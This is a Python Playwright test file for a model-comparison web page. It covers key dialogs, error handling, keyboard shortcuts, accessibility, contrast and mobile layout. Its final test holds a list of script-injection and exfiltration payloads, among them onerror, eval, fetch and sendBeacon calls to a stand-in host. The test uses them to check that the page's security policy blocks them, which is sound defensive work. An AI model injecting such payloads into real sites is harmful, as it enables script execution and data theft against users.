"""Keys, states, themes, the keyboard and the phone; and what the policy forbids."""

import hashlib
import json
import socket

import httpx
import pytest
from playwright.sync_api import expect

from fusion.identity import prompt_id
from tests.services.page.browsing import watched
from tests.services.page.canned import (
    ANSWERS,
    CannedSources,
    Keys,
    Serving,
    pair_row,
    recipe_run,
    write_pairs,
)
from tests.services.page.test_ask import ask, card

pytestmark = pytest.mark.integration


def test_identities_are_those_of_the_tables(page):
    texts = ["", "abc", *("x" * length for length in (55, 56, 63, 64, 65, 1000))]
    texts += ["\u77f3\u5934 \U0001f30a \u00e9", 'line\nbreak\ttab "quote" \\ \u0001 \u007f \u2028']
    ids = page.evaluate(
        """async (texts) => {
          const { promptId, sha256 } = await import("/page/identity.js");
          return texts.map((t) => [
            sha256(t), promptId([{ role: "system", content: t }, { content: t, role: "user" }]),
          ]);
        }""",
        texts,
    )
    for text, (digest, identity) in zip(texts, ids, strict=True):
        assert digest == hashlib.sha256(text.encode()).hexdigest()
        turns = [{"role": role, "content": text} for role in ("system", "user")]
        assert identity == prompt_id(turns)


@pytest.fixture
def keyed(tmp_path):
    """An endpoint that wants a key."""
    keys = Keys(tmp_path)
    with Serving(recipe_run(tmp_path, keys=str(keys.place))) as serving:
        serving.keys = keys
        yield serving


def give_key(serving):
    token = serving.keys.make()
    serving.app.state.desk.doorkeeper.read()
    return token


def test_a_key_is_asked_for_and_kept_for_the_tab_alone(browser, keyed):
    token = give_key(keyed)
    with watched(browser, keyed.base, refusals=2) as shown:
        page = shown.page
        page.goto(keyed.base)
        dialog = page.get_by_role("dialog", name="This endpoint asks for a key")
        dialog.get_by_label("Key").fill("wrong-key")
        dialog.get_by_role("button", name="Use key").click()
        expect(dialog).to_contain_text("This key is not known")
        dialog.get_by_label("Key").fill(token)
        page.keyboard.press("Enter")
        expect(page.get_by_label("llama", exact=True)).to_be_visible()
        ask(page, "With a key")
        assert token not in page.evaluate("JSON.stringify(localStorage) + location.href")
        page.reload()
        expect(page.get_by_label("llama", exact=True)).to_be_visible()
        expect(dialog).to_be_hidden()


def test_a_key_that_dies_is_asked_for_again_and_the_prompt_is_kept(browser, keyed):
    token = give_key(keyed)
    with watched(browser, keyed.base, refusals=2) as shown:
        page = shown.page
        page.goto(keyed.base)
        page.get_by_label("Key", exact=True).fill(token)
        page.keyboard.press("Enter")
        expect(page.get_by_label("llama", exact=True)).to_be_visible()
        token = give_key(keyed)
        ask(page, "My long prompt", until=0)
        expect(page.get_by_role("dialog")).to_contain_text("This key is not known")
        page.get_by_role("button", name="Not now").click()
        assert page.locator("#prompt").input_value() == "My long prompt"
        expect(page.locator(".round")).to_have_count(0)
        page.get_by_role("button", name="Key", exact=True).click()
        page.get_by_label("Key", exact=True).fill(token)
        page.keyboard.press("Enter")
        expect(page.get_by_role("dialog")).to_be_hidden()
        ask(page, "My long prompt")


def test_the_page_itself_needs_no_key_but_the_pairs_do(keyed):
    write_pairs(keyed.app.state.run, [pair_row(1)])
    headers = {"Authorization": f"Bearer {give_key(keyed)}"}
    assert httpx.get(f"{keyed.base}/").status_code == 200
    assert httpx.get(f"{keyed.base}/page/main.js").status_code == 200
    assert httpx.get(f"{keyed.base}/v1/preferences").status_code == 401
    assert httpx.get(f"{keyed.base}/v1/preferences", headers=headers).json()["total"] == 1


def test_a_full_endpoint_gives_the_prompt_back(browser, endpoint):
    error = {"message": "All places are taken.", "type": "rate_limit_error"}
    full = {"status": 429, "headers": {"Retry-After": "3"}, "json": {"error": error}}
    with watched(browser, endpoint.base, refusals=1) as shown:
        shown.page.goto(endpoint.base)
        shown.page.route("**/v1/fanout", lambda route: route.fulfill(**full))
        ask(shown.page, "That is too much", until=0)
        told = "All places are taken. Try again in 3 s."
        expect(shown.page.get_by_role("alert")).to_have_text(told)
        assert shown.page.locator("#prompt").input_value() == "That is too much"


def test_an_endpoint_without_sources_says_so(browser, tmp_path):
    run = recipe_run(tmp_path, reward=False)
    sources = CannedSources((), has_reward=False)
    with Serving(run, sources) as serving, watched(browser, serving.base) as shown:
        shown.page.goto(serving.base)
        expect(shown.page.locator("#sources")).to_contain_text("No source is up")
        expect(shown.page.get_by_label("Score with the reward model")).to_be_hidden()
        expect(shown.page.get_by_role("button", name="Ask", exact=True)).to_be_disabled()


def test_an_endpoint_that_went_away_is_told_and_tried_again(browser, endpoint):
    with watched(browser, endpoint.base, refusals=1) as shown:
        shown.page.route("**/v1/endpoint", lambda route: route.abort())
        shown.page.goto(endpoint.base)
        expect(shown.page.locator("#sources")).to_contain_text("does not answer")
        shown.page.unroute("**/v1/endpoint")
        shown.page.get_by_role("button", name="Try again").click()
        expect(shown.page.get_by_label("llama", exact=True)).to_be_visible()


def test_the_keyboard_alone_asks_compares_and_exports(page):
    page.keyboard.press("/")
    page.keyboard.type("Typed / asked? b")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".answer[data-state=done]")).to_have_count(3)
    page.locator("#send").focus()
    page.keyboard.press("2")
    page.keyboard.press("b")
    page.keyboard.press("ArrowRight")
    page.keyboard.press("w")
    assert card(page, "gemma").get_attribute("data-mark") == "better"
    assert card(page, "mistral").get_attribute("data-mark") == "worse"
    outline = card(page, "mistral").evaluate("card => getComputedStyle(card).outlineStyle")
    assert outline == "solid"
    page.keyboard.press("e")
    expect(page.get_by_role("dialog", name="Export pairs")).to_contain_text("1 pair marked.")
    with page.expect_download() as download:
        page.keyboard.press("Enter")
    row = json.loads(download.value.path().read_text())
    assert row["chosen"][0]["content"] == ANSWERS["gemma"]
    page.keyboard.press("1")
    page.keyboard.press("c")
    page.keyboard.type("And then, slowly?")
    page.keyboard.press("Control+Enter")
    gemma = card(page.locator(".round").last, "gemma")
    expect(gemma).to_have_attribute("data-state", "streaming")
    page.keyboard.press("Escape")
    expect(gemma).to_have_attribute("data-state", "stopped")
    page.locator("#theme").focus()
    page.keyboard.press("g")
    expect(page.locator("#count")).to_contain_text("130 pairs")
    page.keyboard.press("j")
    expect(page.locator("#pair .turns")).to_have_text("How much is 1 + 1?")
    page.keyboard.press("d")
    expect(page.locator("#pair mark")).to_have_count(4)
    page.keyboard.press("k")
    expect(page.locator("#pair .turns")).to_have_text("How much is 0 + 0?")
    page.keyboard.press("/")
    page.keyboard.type("sum is 40")
    expect(page.locator("#count")).to_have_text("1\u20131 of 1 pair")


def test_the_first_stop_of_the_keyboard_skips_to_the_field(page):
    for view, field in (("Ask", "prompt"), ("Pairs", "search")):
        page.get_by_role("link", name=view).click()
        page.locator("#skip").focus()
        page.keyboard.press("Enter")
        expect(page.locator(f"#{field}")).to_be_focused()
        expect(page.get_by_role("link", name=view)).to_have_attribute("aria-current", "page")


def test_shortcuts_are_listed_and_can_be_switched_off(page):
    page.keyboard.press("?")
    dialog = page.get_by_role("dialog", name="Keyboard shortcuts")
    assert "Mark this answer as the better one" in dialog.inner_text()
    dialog.get_by_label("Single keys act").uncheck()
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    page.keyboard.press("?")
    expect(dialog).to_be_hidden()
    page.reload()
    page.get_by_label("llama", exact=True).wait_for()
    page.keyboard.press("?")
    expect(dialog).to_be_hidden()


def test_what_happens_is_announced(page):
    status = page.get_by_role("status")
    ask(page, "Question")
    expect(status).to_have_text("All answers are there")
    assert status.get_attribute("aria-live") == "polite"


def test_every_control_has_a_name(page):
    ask(page, "Question")
    page.get_by_role("link", name="Pairs").click()
    page.locator("#list button").first.wait_for()
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("button, input, select, textarea")]
          .filter((control) => !control.ariaLabel && !control.textContent.trim()
            && ![...control.labels].some((label) => label.textContent.trim()))
          .map((control) => control.outerHTML)"""
    )
    assert nameless == []


RATIO = """([front, back]) => {
  const probe = document.body.appendChild(document.createElement("p"));
  const luminance = (name) => {
    probe.style.color = `var(--${name})`;
    const channels = getComputedStyle(probe).color.match(/[\\d.]+/g).slice(0, 3);
    const linear = (c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
    const [r, g, b] = channels.map((channel) => linear(channel / 255));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const [low, high] = [luminance(front), luminance(back)].sort((a, b) => a - b);
  probe.remove();
  return (high + 0.05) / (low + 0.05);
}"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_text_stands_out_in_both_themes(page, theme):
    page.evaluate("theme => { document.documentElement.dataset.theme = theme; }", theme)
    for front, back in [
        ("ink", "ground"),
        ("muted", "ground"),
        ("muted", "raised"),
        ("muted", "sunken"),
        ("good", "raised"),
        ("good", "good-wash"),
        ("bad", "raised"),
        ("bad", "bad-wash"),
        ("ink", "bad-wash"),
        ("on-accent", "accent"),
        ("accent", "raised"),
    ]:
        ratio = page.evaluate(RATIO, [front, back])
        assert ratio >= 4.5, (theme, front, back, ratio)  # WCAG 2.2, level AA


def test_the_theme_follows_the_system_until_one_is_chosen(browser, endpoint):
    def ground(page):
        return page.evaluate("getComputedStyle(document.body).backgroundColor")

    with watched(browser, endpoint.base, color_scheme="dark") as shown:
        page = shown.page
        page.goto(endpoint.base)
        dark = ground(page)
        page.get_by_role("button", name="Theme: as the system").click()
        light = ground(page)
        assert dark != light
        page.reload()
        assert ground(page) == light
        page.get_by_role("button", name="Theme: light").click()
        assert ground(page) == dark
        page.get_by_role("button", name="Theme: dark").click()
        page.emulate_media(color_scheme="light")
        assert ground(page) == light


def test_nothing_is_wider_than_a_phone(browser, endpoint):
    size = {"width": 390, "height": 844}
    with watched(browser, endpoint.base, viewport=size, has_touch=True, is_mobile=True) as shown:
        page = shown.page

        def check():
            width = page.evaluate("document.documentElement.scrollWidth")
            assert width <= 390, width

        page.goto(endpoint.base)
        page.get_by_label("llama", exact=True).wait_for(state="attached")
        expect(page.get_by_label("llama", exact=True)).to_be_hidden()
        assert page.locator("#settings-summary").inner_text() == "llama, gemma, mistral"
        answers = ask(page, "A-word-without-any-end" * 20)
        check()
        boxes = [card(answers, name).bounding_box() for name in ANSWERS]
        assert len({box["x"] for box in boxes}) == 1
        card(answers, "gemma").get_by_role("button", name="Better").tap()
        page.get_by_text("Sources and sampling").tap()
        expect(page.get_by_label("llama", exact=True)).to_be_visible()
        check()
        page.get_by_role("link", name="Pairs").tap()
        page.locator("#list button").nth(3).tap()
        expect(page.locator("#list")).to_be_hidden()
        expect(page.locator("#pair .turns")).to_have_text("How much is 3 + 3?")
        check()
        page.get_by_role("button", name="Back to the list").tap()
        expect(page.locator("#list")).to_be_visible()
        check()


def received(server):
    """What a browser sends to a server in a moment; it may connect ahead and say nothing."""
    try:
        connection, _ = server.accept()
        with connection:
            connection.settimeout(0.3)
            return connection.recv(1)
    except TimeoutError:
        return b""


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'hurt = 1'}))",
        "document.body.innerHTML = '<img src=x onerror=\"hurt = 1\">'",
        "eval('hurt = 1')",
        "document.body.append(Object.assign(document.createElement('script'), {src: '//OTHER/'}))",
        "document.body.append(Object.assign(new Image(), {src: '//OTHER/'}))",
        "fetch('//OTHER/').catch(() => 0)",
        "navigator.sendBeacon('//OTHER/', 'secret')",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '//OTHER/'}))",
    ],
)
def test_the_policy_stops_what_found_a_way_in(browser, endpoint, attack):
    with socket.create_server(("127.0.0.1", 0)) as other:
        other.settimeout(0.3)
        attack = attack.replace("OTHER", f"127.0.0.1:{other.getsockname()[1]}")
        context = browser.new_context()
        page = context.new_page()
        page.goto(endpoint.base)
        # Later, since what a test evaluates itself stands above the policy.
        page.evaluate(f"setTimeout(() => {{ {attack} }})")
        assert received(other) == b""
        assert page.evaluate("window.hurt") is None
        context.close()
